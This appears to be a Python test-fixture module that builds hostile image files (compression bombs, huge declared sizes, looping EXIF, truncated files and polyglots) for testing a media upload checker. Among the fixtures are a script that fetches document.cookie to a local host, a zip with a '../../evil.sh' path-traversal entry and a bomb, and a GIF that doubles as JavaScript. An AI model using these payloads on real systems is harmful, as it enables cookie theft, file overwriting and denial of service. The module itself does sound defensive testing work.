"""Pictures that lie about their size, inflate, go round in circles or are something else as well."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import numpy as np
import pillow_heif
from PIL import Image

from tests.media import make_hostile as make
from tests.media.make_hostile import Case, png_chunk

_HTML = b"<html><script>fetch('http://127.0.0.1/'+document.cookie)</script></html>"


def _heif(width: int = 96, height: int = 64) -> bytes:
    file = io.BytesIO()
    pillow_heif.from_pillow(make.half_red().resize((width, height))).save(file, quality=50)
    return file.getvalue()


def _patched(data: bytes, mark: bytes, skip: int, new: bytes) -> bytes:
    """Other bytes at ``skip`` behind the first ``mark``."""
    at = data.index(mark) + len(mark) + skip
    return data[:at] + new + data[at + len(new) :]


def _profile_bomb() -> bytes:
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(bytes(2**20)) for _ in range(256)) + packer.flush()
    plain = make.picture("PNG")
    return plain[:33] + png_chunk(b"iCCP", b"sRGB\0\0" + bomb) + plain[33:]


def _text_bomb() -> bytes:
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(b"B" * 2**20) for _ in range(256)) + packer.flush()
    plain = make.picture("PNG")
    return plain[:33] + png_chunk(b"iTXt", b"Comment\0\1\0\0\0" + bomb) + plain[33:]


def _many_chunks(count: int) -> bytes:
    plain = make.picture("PNG")
    return plain[:33] + png_chunk(b"quIE", b"") * count + plain[33:]


def _png(width: int, height: int, body: bytes = b"", interlaced: int = 0) -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, interlaced))
    return b"\x89PNG\r\n\x1a\n" + head + png_chunk(b"IDAT", zlib.compress(body)) + png_chunk(b"IEND", b"")


def _bad_checksum() -> bytes:
    data = bytearray(make.picture("PNG"))
    data[29] ^= 0xFF
    return bytes(data)


def _moving_png(declared: int) -> bytes:
    """Few frames, more declared."""
    data = make.animation("PNG", 4)
    at = data.index(b"acTL")
    return data[: at - 4] + png_chunk(b"acTL", struct.pack(">II", declared, 0)) + data[at + 16 :]


def _wide_gif(side: int, frames: int) -> bytes:
    """A canvas that is huge, with frames of one pixel."""
    head = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    shown = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + shown * frames + b";"


def _many_scans(side: int, scans: int) -> bytes:
    """A progressive JPEG that refines the same coefficients again and again."""
    data = make.picture("JPEG", Image.new("L", (side, side), 128), progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + b"\xff\xd9"


def _many_comments(count: int) -> bytes:
    data = make.picture("JPEG")
    return data[:2] + (b"\xff\xfe" + struct.pack(">H", 65535) + b"c" * 65533) * count + data[2:]


def _exif(entries: bytes) -> bytes:
    return make.picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08" + entries)


def _exif_in_a_circle() -> bytes:
    """Its first directory is its own child and its own successor."""
    entry = struct.pack(">HHII", 0x8769, 4, 1, 8)
    return _exif(struct.pack(">H", 1) + entry + struct.pack(">I", 8))


def _exif_of_many() -> bytes:
    entry = struct.pack(">HHII", 0x010E, 2, 0xFFFFFFF0, 8)
    return _exif(struct.pack(">H", 5000) + entry * 5000 + bytes(4))


def _words_in_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "\u202ea walk\x07 \x1b[31m"
    exif[0x013B] = b"\xff\xfe\x00\xd8x\x00".decode("latin-1")
    return make.picture("JPEG", exif=exif.tobytes())


def _vp8x(width: int, height: int) -> bytes:
    """A WebP that says the canvas is as large as the format can say."""
    still = make.picture("WEBP")
    sizes = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + sizes + still[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.sh", "echo")
        archive.writestr("zeros", bytes(10_000_000))
    return file.getvalue()


def _script_in_gif() -> bytes:
    """`GIF89a/*...*/=1;...` is a picture and a program."""
    head = b"GIF89a" + struct.pack("<HH", 0x2A2F, 2000) + b"\x80\0\0\0\0\0\xff\xff\xff"
    words = b"*/=1;alert('polyglot')//"
    comment = b"!\xfe" + bytes([len(words)]) + words + b"\0"
    shown = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + comment + shown + b";"


def _half(data: bytes, share: float = 0.5) -> bytes:
    return data[: int(len(data) * share)]


_LARGE = "media-too-large"
_OTHER = "media-type"

FAMILIES: dict[str, list[Case]] = {
    "pictures: bombs": [
        Case("profile-bomb.png", "picture", "media-hostile", _profile_bomb),
        Case("itxt-bomb.png", "picture", "media-hostile", _text_bomb),
        Case("many-chunks.png", "picture", "", lambda: _many_chunks(100_000)),
        Case("side-2-31.png", "picture", _LARGE, lambda: _png(2**31 - 1, 2**31 - 1)),
        Case("interlaced-huge.png", "picture", _LARGE, lambda: _png(60_000, 60_000, interlaced=1)),
        Case("frames-declared.png", "picture", "media-truncated", lambda: _moving_png(2**31 - 1)),
        Case("65535.jpg", "picture", _LARGE, lambda: _patched(make.picture("JPEG"), b"\xff\xc0", 3, b"\xff" * 4)),
        Case("scans.jpg", "picture", "media-limit", lambda: _many_scans(6000, 3000)),
        Case("comments.jpg", "picture", "", lambda: _many_comments(400)),
        Case("circle.jpg", "picture", "", _exif_in_a_circle),
        Case("many-entries.jpg", "picture", "", _exif_of_many),
        Case(
            "16383.webp",
            "picture",
            _LARGE,
            lambda: make.picture("WEBP", Image.new("RGB", (16_383, 4_000)), lossless=True, method=0),
        ),
        Case("canvas.webp", "picture", _LARGE, lambda: _vp8x(2**24, 2**8)),
        Case("65535.heic", "picture", _LARGE, lambda: _patched(_heif(), b"ispe", 4, struct.pack(">II", 65535, 65535))),
        Case("65535.gif", "picture", _LARGE, lambda: _wide_gif(65535, 1)),
        Case("large-canvas-many-frames.gif", "picture", "media-limit", lambda: _wide_gif(6300, 599)),
        Case("frame-beyond-canvas.gif", "picture", _LARGE, lambda: _frame_beyond()),
    ],
    "pictures: broken": [
        Case("no-width.png", "picture", "media-unreadable", lambda: _png(0, 10)),
        Case("checksum.png", "picture", "media-unreadable", _bad_checksum),
        Case("no-pixels.png", "picture", "media-truncated", lambda: _png(50, 50)),
        Case("cut.gif", "picture", "media-truncated", lambda: _half(make.picture("GIF"))),
        Case("cut.webp", "picture", "media-unreadable", lambda: _half(make.picture("WEBP"))),
        Case("cut.heic", "picture", "media-unreadable", lambda: _half(_heif(400, 300), 0.7)),
        Case("head-only.jpg", "picture", "media-unreadable", lambda: b"\xff\xd8\xff\xe0"),
        Case("head-only.png", "picture", "media-unreadable", lambda: b"\x89PNG\r\n\x1a\n"),
    ],
    "pictures: something else as well": [
        Case("html-in.jpg", "picture", "", lambda: make.picture("JPEG", comment=_HTML)),
        Case("html-behind.png", "picture", "", lambda: make.picture("PNG") + _HTML),
        Case("archive-behind.png", "picture", "", lambda: make.picture("PNG") + _zip()),
        Case("archive-behind.jpg", "picture", "", lambda: make.picture("JPEG") + _zip()),
        Case("script-in.gif", "picture", "", _script_in_gif),
        Case("document-first.jpg", "picture", _OTHER, lambda: b"%PDF-1.4\n" + make.picture("JPEG")),
        Case("program-first.png", "picture", _OTHER, lambda: b"\x7fELF" + make.picture("PNG")),
        Case("words-in-exif.jpg", "picture", "", _words_in_exif),
    ],
    "pictures: other types": [
        Case("bomb.zip", "picture", _OTHER, _zip),
        Case("clip-as.png", "picture", _OTHER, lambda: make.clip(1.0, sound=None)),
        Case("song-as.jpg", "picture", _OTHER, lambda: make.audio("libmp3lame", "mp3", make.tone(1.0))),
        Case(
            "layers.psd",
            "picture",
            _OTHER,
            lambda: b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30000, 30000, 8, 3),
        ),
        Case("icon.ico", "picture", _OTHER, lambda: make.picture("ICO", Image.new("RGB", (32, 32)))),
        Case(
            "huge.bmp",
            "picture",
            _OTHER,
            lambda: b"BM" + bytes(12) + struct.pack("<IiiHH", 40, 2**31 - 1, 2**31 - 1, 1, 24) + bytes(24),
        ),
        Case(
            "huge.tif",
            "picture",
            _OTHER,
            lambda: b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + struct.pack("<HHII", 256, 4, 1, 2**31) * 2,
        ),
        Case("photo.jp2", "picture", _OTHER, lambda: make.picture("JPEG2000")),
        Case("photo.avif", "picture", _OTHER, lambda: b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(200)),
        Case("texture.dds", "picture", _OTHER, lambda: make.picture("DDS")),
    ],
}


def _frame_beyond() -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 2, 2, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    shown = b"," + struct.pack("<HHHHB", 60_000, 60_000, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + shown + b";"


def flipped(data: bytes, seed: int, share: float = 0.002, keep: int = 64) -> bytes:
    """The file with random bits turned, but for its first bytes."""
    random = np.random.default_rng(seed)
    bits = np.frombuffer(data, np.uint8).copy()
    for at in random.integers(keep, len(bits), max(3, int(len(bits) * share))):
        bits[at] ^= 1 << int(random.integers(8))
    return bits.tobytes()
